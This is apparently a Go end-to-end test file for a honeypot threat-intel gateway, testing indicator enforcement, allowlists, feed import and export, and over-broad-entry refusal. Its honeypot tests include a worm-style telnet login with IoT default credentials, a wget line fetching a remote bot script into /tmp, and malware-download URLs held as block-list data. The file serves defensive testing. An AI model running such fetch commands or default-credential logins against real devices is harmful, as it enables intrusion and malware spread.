package e2e

import (
	"bytes"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
)

// post sends a JSON body to the API and returns the status and body.
func (s *server) post(path string, body string) (int, []byte) {
	s.t.Helper()
	req, _ := http.NewRequest(http.MethodPost, s.apiURL(path, nil), strings.NewReader(body))
	req.Header.Set("Authorization", "Bearer "+testToken)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		s.t.Fatalf("POST %s: %v", path, err)
	}
	defer resp.Body.Close()
	var b bytes.Buffer
	b.ReadFrom(resp.Body)
	return resp.StatusCode, b.Bytes()
}

type apiMatch struct {
	Match bool `json:"match"`
	Hit   struct {
		ID       int64  `json:"id"`
		Type     string `json:"type"`
		Value    string `json:"value"`
		Category string `json:"category"`
		Source   string `json:"source"`
	} `json:"hit"`
}

// match asks what the live snapshot (what the gateway enforces) says.
func (s *server) match(q url.Values) apiMatch {
	s.t.Helper()
	var m apiMatch
	if code := s.get("/api/v1/intel/match", q, testToken, &m); code != http.StatusOK {
		s.t.Fatalf("match %v: status %d", q, code)
	}
	return m
}

type apiIndicator struct {
	ID       int64    `json:"id"`
	Type     string   `json:"type"`
	Value    string   `json:"value"`
	Category string   `json:"category"`
	Source   string   `json:"source"`
	Refs     []string `json:"refs"`
	Enforced bool     `json:"enforced"`
	Reason   string   `json:"reason"`
}

func (s *server) indicators(q url.Values) []apiIndicator {
	s.t.Helper()
	var resp struct{ Indicators []apiIndicator }
	if code := s.get("/api/v1/intel", q, testToken, &resp); code != http.StatusOK {
		s.t.Fatalf("intel %v: status %d", q, code)
	}
	return resp.Indicators
}

// An indicator added through the API is enforced within one second; the
// allowlist overrides it; removing it stops the enforcement.
func TestIntelAPIEnforcedWithinASecond(t *testing.T) {
	s := startServer(t, t.TempDir())
	if m := s.match(url.Values{"host": {"www.evil-e2e.example"}}); m.Match {
		t.Fatalf("matched before anything was added: %+v", m)
	}
	start := time.Now()
	code, body := s.post("/api/v1/intel", `{"type":"domain","value":"Evil-E2E.example.","category":"phishing","source":"e2e"}`)
	if code != http.StatusCreated {
		t.Fatalf("POST: %d %s", code, body)
	}
	var took time.Duration
	for {
		if m := s.match(url.Values{"url": {"HTTP://WWW.EVIL-E2E.example./a/../login?x#y"}}); m.Match {
			took = time.Since(start)
			if m.Hit.Value != "evil-e2e.example" || m.Hit.Category != "phishing" || m.Hit.Source != "e2e" || m.Hit.Type != "domain" {
				t.Errorf("hit %+v", m.Hit)
			}
			break
		}
		if time.Since(start) > time.Second {
			t.Fatalf("not enforced within one second of the POST")
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Logf("enforced %v after the POST", took)

	// A list, with an allow entry under the domain.
	code, body = s.post("/api/v1/intel", `[{"type":"host","value":"ok.evil-e2e.example","category":"allow"},
		{"type":"url","value":"http://198.51.100.9/bins/x.sh","category":"malware-download"}]`)
	if code != http.StatusCreated {
		t.Fatalf("POST list: %d %s", code, body)
	}
	waitFor(t, "allow entry enforced", time.Second, func() bool {
		return !s.match(url.Values{"host": {"ok.evil-e2e.example"}}).Match
	})
	if !s.match(url.Values{"host": {"other.evil-e2e.example"}}).Match {
		t.Error("the allow entry for one host lifted the whole domain")
	}
	// A bad indicator is refused whole with 400, naming it.
	if code, body := s.post("/api/v1/intel", `[{"type":"domain","value":"fine.example"},{"type":"ip","value":"not-an-ip"}]`); code != http.StatusBadRequest || !strings.Contains(string(body), "item 1") {
		t.Errorf("bad list: %d %s", code, body)
	}
	if got := s.indicators(url.Values{"value": {"fine.example"}}); len(got) != 0 {
		t.Errorf("a refused list was partly stored: %+v", got)
	}

	// GET filters by value (canonicalized), type, category, source.
	got := s.indicators(url.Values{"value": {"EVIL-E2E.EXAMPLE"}})
	if len(got) != 1 || got[0].Type != "domain" {
		t.Fatalf("by value: %+v", got)
	}
	if got := s.indicators(url.Values{"category": {"malware-download"}, "type": {"url"}}); len(got) != 1 || got[0].Value != "198.51.100.9/bins/x.sh" {
		t.Errorf("by category and type: %+v", got)
	}

	// DELETE by id: no longer enforced.
	req, _ := http.NewRequest(http.MethodDelete, s.apiURL("/api/v1/intel/"+itoa(got[0].ID), nil), nil)
	req.Header.Set("Authorization", "Bearer "+testToken)
	resp, err := http.DefaultClient.Do(req)
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("DELETE: %v %v", resp, err)
	}
	resp.Body.Close()
	waitFor(t, "deleted indicator no longer enforced", time.Second, func() bool {
		return !s.match(url.Values{"host": {"other.evil-e2e.example"}}).Match
	})
	// No token, no intel.
	if code := s.get("/api/v1/intel", nil, "", nil); code != http.StatusUnauthorized {
		t.Errorf("without a token: %d", code)
	}
}

func itoa(n int64) string { return strconv.FormatInt(n, 10) }

// A feed imported with the CLI loads its good lines and names the bad ones;
// exported as csv and as stix, removed, and imported again, it comes back
// the same.
func TestIntelImportExportRoundTrip(t *testing.T) {
	data := t.TempDir()
	s := startServer(t, data)
	cli := func(args ...string) (string, int) {
		return runCLI(t, nil, append(args, "--server", "http://"+s.addrs["web"][0], "--token", testToken)...)
	}
	out, code := cli("intel", "import", "--format", "urlhaus", "--source", "urlhaus", "testdata/intel-urlhaus.csv")
	if code != 0 {
		t.Fatalf("import: %d\n%s", code, out)
	}
	// The sample's bad lines (11 to 13) are named; its four good ones load.
	for _, want := range []string{"intel-urlhaus.csv:11:", "intel-urlhaus.csv:12:", "intel-urlhaus.csv:13:", "4 indicators from 4 good lines (4 added, 0 updated), 3 bad lines"} {
		if !strings.Contains(out, want) {
			t.Errorf("import output lacks %q:\n%s", want, out)
		}
	}
	waitFor(t, "imported feed enforced", time.Second, func() bool {
		m := s.match(url.Values{"url": {"http://45.15.143.158/bins.sh"}})
		return m.Match && m.Hit.Source == "urlhaus" && m.Hit.Category == "malware-download"
	})
	before := s.indicators(url.Values{"source": {"urlhaus"}})
	if len(before) != 4 {
		t.Fatalf("stored %d", len(before))
	}
	for _, format := range []string{"csv", "stix"} {
		file := filepath.Join(data, "export."+format)
		if out, code := cli("intel", "export", "--format", format, "--source", "urlhaus", "-o", file); code != 0 {
			t.Fatalf("export %s: %d\n%s", format, code, out)
		}
		if out, code := cli("intel", "rm", "--source", "urlhaus"); code != 0 || !strings.Contains(out, "removed 4") {
			t.Fatalf("rm: %d\n%s", code, out)
		}
		waitFor(t, "removed feed no longer enforced", time.Second, func() bool {
			return !s.match(url.Values{"url": {"http://45.15.143.158/bins.sh"}}).Match
		})
		if out, code := cli("intel", "import", "--format", format, "--source", "urlhaus", file); code != 0 || !strings.Contains(out, "4 indicators") {
			t.Fatalf("re-import %s: %d\n%s", format, code, out)
		}
		after := s.indicators(url.Values{"source": {"urlhaus"}})
		if len(after) != len(before) {
			t.Fatalf("%s round trip: %d indicators, want %d", format, len(after), len(before))
		}
		for i := range after {
			if after[i].Type != before[i].Type || after[i].Value != before[i].Value || after[i].Category != before[i].Category {
				t.Errorf("%s round trip: %+v, want %+v", format, after[i], before[i])
			}
		}
	}
	// The other formats write what a resolver or an IDS reads.
	for format, want := range map[string]string{"suricata": `http.uri; content:"/bins.sh"`, "hosts": "# honeygate intel export"} {
		out, code := cli("intel", "export", "--format", format)
		if code != 0 || !strings.Contains(out, want) {
			t.Errorf("export %s: %d, lacks %q:\n%s", format, code, want, out)
		}
	}
	// The allowlist goes into every enforcing export, whatever the filter
	// selects, as an exception that wins.
	if out, code := cli("intel", "add", "--category", "malware", "exp-blocked.example"); code != 0 {
		t.Fatalf("add: %d\n%s", code, out)
	}
	if out, code := cli("intel", "add", "--category", "allow", "ok.exp-blocked.example"); code != 0 {
		t.Fatalf("add allow: %d\n%s", code, out)
	}
	for format, want := range map[string][]string{
		"dnsmasq": {"address=/exp-blocked.example/", "server=/ok.exp-blocked.example/#"},
		"rpz":     {"*.exp-blocked.example CNAME .", "ok.exp-blocked.example CNAME rpz-passthru.", "*.ok.exp-blocked.example CNAME rpz-passthru."},
		"squid":   {"acl honeygate_block dstdomain .exp-blocked.example", "acl honeygate_allow dstdomain .ok.exp-blocked.example", "http_access deny honeygate_block !honeygate_allow"},
	} {
		out, code := cli("intel", "export", "--format", format, "--category", "malware")
		for _, w := range want {
			if code != 0 || !strings.Contains(out, w) {
				t.Errorf("export %s --category malware: %d, lacks %q:\n%s", format, code, w, out)
			}
		}
	}
	// add and list.
	if out, code := cli("intel", "add", "--category", "c2", "--expires", "24h", "C2.Example.", "203.0.113.9"); code != 0 || !strings.Contains(out, "added 2") {
		t.Fatalf("add: %d\n%s", code, out)
	}
	out, code = cli("intel", "list", "--category", "c2")
	if code != 0 || !strings.Contains(out, "c2.example") || !strings.Contains(out, "203.0.113.9") || !strings.Contains(out, "ip") || !strings.Contains(out, "ENFORCED") || strings.Count(out, " yes\n") != 2 {
		t.Errorf("list: %d\n%s", code, out)
	}
	waitFor(t, "added ip enforced", time.Second, func() bool {
		return s.match(url.Values{"ip": {"203.0.113.9"}}).Match
	})
	if out, code := cli("intel", "import", "--format", "domains", "/nonexistent"); code == 0 {
		t.Errorf("import of a missing file succeeded:\n%s", out)
	}
	bad := filepath.Join(data, "bad.txt")
	os.WriteFile(bad, []byte("not a domain\n"), 0o600)
	if out, code := cli("intel", "import", "--format", "domains", bad); code != 1 || !strings.Contains(out, "bad.txt:1:") {
		t.Errorf("import of only bad lines: %d\n%s", code, out)
	}
	// What would block a whole TLD, most of the Internet, or nothing (an
	// expiry in the past) is refused, naming the field; nothing is stored.
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"com"}, "top-level domain"},
		{[]string{"ＣＯ．ＵＫ"}, "co.uk is a registry suffix"},
		{[]string{"0.0.0.0/0"}, "wider than /8"},
		{[]string{"::/0"}, "wider than /32"},
		{[]string{"--type", "sha256", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}, "SHA-256 of empty content"},
		{[]string{"--type", "url-prefix", "http://com/"}, "top-level domain"},
		{[]string{"--expires", "2020-01-01T00:00:00Z", "expired.example"}, "expires"},
	} {
		if out, code := cli(append([]string{"intel", "add"}, c.args...)...); code == 0 || !strings.Contains(out, c.want) {
			t.Errorf("add %v: %d, want a refusal naming %q:\n%s", c.args, code, c.want, out)
		}
	}
	if out, _ := cli("intel", "list", "--value", "com"); strings.Contains(out, "domain") {
		t.Errorf("a refused indicator was stored:\n%s", out)
	}
	// The API says why, with a 400, and stores nothing.
	body := `{"type":"sha256","value":"E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855"}`
	req, _ := http.NewRequest(http.MethodPost, s.apiURL("/api/v1/intel", nil), strings.NewReader(body))
	req.Header.Set("Authorization", "Bearer "+testToken)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	msg, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest || !strings.Contains(string(msg), "empty content") {
		t.Errorf("POST the empty-content hash: %d %s", resp.StatusCode, msg)
	}
	if out, _ := cli("intel", "list", "--type", "sha256"); strings.Contains(out, "e3b0c442") {
		t.Errorf("the empty-content hash was stored:\n%s", out)
	}
	// In a feed it is a bad line, with its number; the rest loads.
	hashes := filepath.Join(data, "hashes.csv")
	os.WriteFile(hashes, []byte("id,type,value,category,source,first_seen,last_seen,expires,refs\n"+
		",sha256,ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad,malware,,,,,\n"+
		",sha256,e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855,malware,,,,,\n"), 0o600)
	if out, code := cli("intel", "import", "--format", "csv", "--source", "hashfeed", hashes); !strings.Contains(out, "hashes.csv:3:") ||
		!strings.Contains(out, "empty content") || !strings.Contains(out, "1 indicators") {
		t.Errorf("import with the empty hash on line 3: %d\n%s", code, out)
	}
	broad := filepath.Join(data, "broad.txt")
	os.WriteFile(broad, []byte("evil-broad.example\ncom\nｅｖｉｌ２．ｅｘａｍｐｌｅ\n"), 0o600)
	if out, code := cli("intel", "import", "--format", "domains", broad); !strings.Contains(out, "broad.txt:2:") || strings.Contains(out, "broad.txt:3:") {
		t.Errorf("import with a TLD on line 2: %d\n%s", code, out)
	}
	waitFor(t, "fullwidth feed line enforced as punycode-free ASCII", time.Second, func() bool {
		return s.match(url.Values{"host": {"www.evil2.example"}}).Match
	})
}

// A worm's payload URL, seen by the telnet honeypot, becomes an indicator
// (source honeypot, linked to its file.download event), and so does its
// server's address, and the gateway's matcher enforces both.
func TestIntelFromWormDownload(t *testing.T) {
	s := startServer(t, t.TempDir())
	srcPort, payloadURL := miraiLoader(t, s.telnet(0), "198.51.100.66")
	session := s.sessionOf(srcPort)
	var ev apiEvent
	waitFor(t, "the file.download event", 20*time.Second, func() bool {
		for _, e := range s.events(url.Values{"kind": {"file.download"}, "session": {session}}) {
			if e.URL == payloadURL {
				ev = e
				return true
			}
		}
		return false
	})
	var ind apiIndicator
	waitFor(t, "the payload URL as an indicator", 20*time.Second, func() bool {
		got := s.indicators(url.Values{"source": {"honeypot"}, "type": {"url"}, "ref": {ev.ID}})
		if len(got) == 1 {
			ind = got[0]
		}
		return len(got) == 1
	})
	if ind.Category != "malware-download" || !strings.HasPrefix(ind.Value, "198.51.100.66/bins/mirai.") {
		t.Errorf("indicator %+v", ind)
	}
	waitFor(t, "the payload URL enforced", 2*time.Second, func() bool {
		m := s.match(url.Values{"url": {payloadURL}})
		return m.Match && m.Hit.Source == "honeypot" && m.Hit.Type == "url"
	})
	// The payload server's address too (the default host policy: ip).
	if m := s.match(url.Values{"url": {"http://198.51.100.66/other"}}); !m.Match || m.Hit.Type != "ip" {
		t.Errorf("payload host not enforced: %+v", m)
	}
}

// Anyone who reaches the honeypot can type a popular site's URL: it is
// listed as held (suspicious, not enforced, the reason shown), the gateway
// does not block it, and the site's host is not listed.
func TestIntelPopularSiteHeld(t *testing.T) {
	s := startServer(t, t.TempDir())
	w := dialWorm(t, s.telnet(0))
	w.login("root", "xc3511")
	w.expect("#")
	const popular = "http://raw.githubusercontent.com/someone/tools/main/bot.sh"
	w.run("wget "+popular+" -O /tmp/b", "ECCHI")
	var ind apiIndicator
	waitFor(t, "the popular URL listed", 20*time.Second, func() bool {
		got := s.indicators(url.Values{"source": {"honeypot"}, "type": {"url"}, "value": {popular}})
		if len(got) == 1 {
			ind = got[0]
		}
		return len(got) == 1
	})
	if ind.Category != "suspicious" || ind.Enforced || !strings.HasPrefix(ind.Reason, "held") {
		t.Errorf("indicator %+v", ind)
	}
	time.Sleep(time.Second) // a change is enforced within one: this one must not be
	if m := s.match(url.Values{"url": {popular}}); m.Match {
		t.Errorf("a popular site's URL from one honeypot session is enforced: %+v", m)
	}
	if got := s.indicators(url.Values{"type": {"host"}, "value": {"raw.githubusercontent.com"}}); len(got) != 0 {
		t.Errorf("popular host listed: %+v", got)
	}
}
